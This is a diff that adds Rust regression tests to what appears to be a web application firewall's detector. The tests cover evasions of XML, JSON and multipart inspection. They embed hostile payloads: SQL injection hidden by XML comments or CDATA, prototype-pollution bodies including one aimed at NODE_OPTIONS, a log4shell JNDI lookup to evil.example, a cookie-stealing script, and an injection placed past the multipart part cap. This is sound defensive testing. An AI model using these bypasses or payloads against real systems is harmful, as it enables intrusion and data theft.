@@ -3073,3 +3073,154 @@ fn semicolon_pieces_and_octal_escapes_are_inspected() {
         "octal-escaped command not seen"
     );
 }
+
+/// Review round 16. Defect: the XML walker hands on each text and CDATA
+/// segment of an element separately, so an SQL (or any) keyword split by an
+/// XML comment or a CDATA section (`un<!-- x -->ion sel<![CDATA[ect]]>`)
+/// reaches no rule, neither on `body:xml:/…` nor on the raw body. The back
+/// end reads the element's text whole: Java DOM `Node.getTextContent()`,
+/// JAXB and Jackson's `XmlMapper`, .NET `XmlNode.InnerText` /
+/// `XmlReader.ReadElementContentAsString()`, libxml2's `xmlNodeGetContent`
+/// (PHP `DOMNode::textContent`) and browsers' `textContent` all skip
+/// comments and join text with CDATA, so a SOAP service builds the query
+/// from `1' union select password from users--`. A known WAF bypass for
+/// SOAP/XML APIs. Severity: High (SQL injection into XML APIs unseen).
+#[test]
+fn review16_xml_comment_or_cdata_inside_keyword_is_joined() {
+    let bodies: [&[u8]; 3] = [
+        b"<q>1' un<!-- c -->ion sel<!-- c -->ect password from users--</q>",
+        b"<q>1' un<![CDATA[ion sel]]>ect password from users--</q>",
+        b"<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><getUser><id>1' un<?x?>ion select password from users--</id></getUser></s:Body></s:Envelope>",
+    ];
+    let mut missed = Vec::new();
+    for body in bodies {
+        let r = req("POST", "/ws", &[("Content-Type", "text/xml")], body);
+        let hits = hits_of(&r);
+        if !hits.iter().any(|h| h.class == AttackClass::Sqli) {
+            missed.push(String::from_utf8_lossy(body).into_owned());
+        }
+    }
+    assert!(missed.is_empty(), "no sqli hit for {missed:#?}");
+}
+
+/// Review round 16. Defect: `{"constructor": {"prototype": {...}}}` in a
+/// JSON body is not reported. `rce-js-prototype-pollution` looks for
+/// `constructor.prototype` / `constructor[prototype]` in one value, but the
+/// JSON walker hands each member name on alone (`constructor`, then
+/// `prototype`) and the raw body reads `"constructor":{"prototype"`, so
+/// neither matches; only `__proto__` is caught. `JSON.parse` in Node keeps
+/// both keys, and a deep merge (lodash `_.merge`/`_.defaultsDeep`
+/// CVE-2019-10744/CVE-2018-16487, `merge-deep`, `deep-extend`, jQuery
+/// `$.extend(true, …)`) then writes `Object.prototype.isAdmin`: the
+/// published exploit of CVE-2019-10744 is exactly this body. The same keys
+/// as a query (`?constructor[prototype][isAdmin]=1`) are reported, so only
+/// the JSON form evades. Severity: Medium.
+#[test]
+fn review16_json_constructor_prototype_pollution_is_reported() {
+    let bodies: [&[u8]; 2] = [
+        br#"{"constructor": {"prototype": {"isAdmin": true}}}"#,
+        br#"{"type":"test","content":{"constructor":{"prototype":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}}"#,
+    ];
+    let mut missed = Vec::new();
+    for body in bodies {
+        let r = req(
+            "POST",
+            "/api/merge",
+            &[("Content-Type", "application/json")],
+            body,
+        );
+        let hits = hits_of(&r);
+        if !hits
+            .iter()
+            .any(|h| &*h.rule_id == "rce-js-prototype-pollution")
+        {
+            missed.push((String::from_utf8_lossy(body).into_owned(), hits));
+        }
+    }
+    // The query form is reported (control).
+    let q = req("GET", "/?constructor[prototype][isAdmin]=1", &[], b"");
+    assert!(hits_of(&q)
+        .iter()
+        .any(|h| &*h.rule_id == "rce-js-prototype-pollution"));
+    assert!(missed.is_empty(), "not reported: {missed:#?}");
+}
+
+/// Review round 16. Defect: a JSON body nested deeper than
+/// `MAX_JSON_DEPTH` (32) but within serde_json's recursion limit (128)
+/// parses, so it is not inspected raw, and the walk stops at depth 32 and
+/// only counts `decode_depth_hits`: every string below is inspected
+/// nowhere. XML hands its raw body on before walking; JSON does not. Real
+/// back ends read far deeper: Node's `JSON.parse` (Express `body-parser`)
+/// has no depth limit, PHP `json_decode` allows 512, Jackson 1000, Go's
+/// `encoding/json` 10000, Python's `json` about 1000. An attacker wraps a
+/// log4shell string (logged by an app that logs its input), a stored XSS or
+/// a NoSQL/SQL injection in 40 levels of `{"a":…}` and no rule sees it.
+/// Severity: High (a generic, trivial blind spot for every rule class).
+#[test]
+fn review16_json_deeper_than_walk_limit_is_inspected() {
+    let mut missed = Vec::new();
+    for payload in [
+        "${jndi:ldap://evil.example/a}",
+        "1' union select password from users--",
+        "<script>alert(document.cookie)</script>",
+    ] {
+        let body = format!(
+            "{}{{\"q\":\"{payload}\"}}{}",
+            "{\"a\":".repeat(40),
+            "}".repeat(40)
+        );
+        let r = req(
+            "POST",
+            "/api/items",
+            &[("Content-Type", "application/json")],
+            body.as_bytes(),
+        );
+        if hits_of(&r).is_empty() {
+            missed.push(payload);
+        }
+    }
+    assert!(
+        missed.is_empty(),
+        "not inspected below depth 32: {missed:?}"
+    );
+}
+
+/// Review round 16. Defect: a multipart body is split into at most
+/// `MAX_MULTIPART_PARTS` (64) parts; with more, everything from the 65th
+/// delimiter on is inspected nowhere (the parts are not split, the raw body
+/// is not handed on, and no counter or finding says so), while the points
+/// budget (512) is far from spent. Back ends read far more parts: PHP up
+/// to `max_input_vars` (1000), Go's `ParseMultipartForm` 1000 (Go 1.20.2+,
+/// unlimited before), Node's busboy/multer no limit, Tomcat/Spring
+/// `maxPartCount` 1000 (10.1.5+, unlimited before). An attacker sends 64
+/// harmless fields and the injection in the 65th. Severity: High (a whole
+/// body unseen past a small, fixed count).
+#[test]
+fn review16_multipart_parts_past_the_cap_are_inspected() {
+    let mut body = String::new();
+    for k in 0..point::MAX_MULTIPART_PARTS {
+        body.push_str(&format!(
+            "--zz\r\nContent-Disposition: form-data; name=\"f{k}\"\r\n\r\nx\r\n"
+        ));
+    }
+    body.push_str(
+        "--zz\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' union select password from users--\r\n--zz--\r\n",
+    );
+    let r = req(
+        "POST",
+        "/form",
+        &[("Content-Type", "multipart/form-data; boundary=zz")],
+        body.as_bytes(),
+    );
+    let mut stats = DetectStats::default();
+    let mut hits = Vec::new();
+    detector().inspect(&r, &mut stats, &mut hits);
+    assert_eq!(
+        stats.point_limit_hits, 0,
+        "the points budget is not the cause"
+    );
+    assert!(
+        hits.iter().any(|h| h.class == AttackClass::Sqli),
+        "65th part not inspected: {hits:?}"
+    );
+}
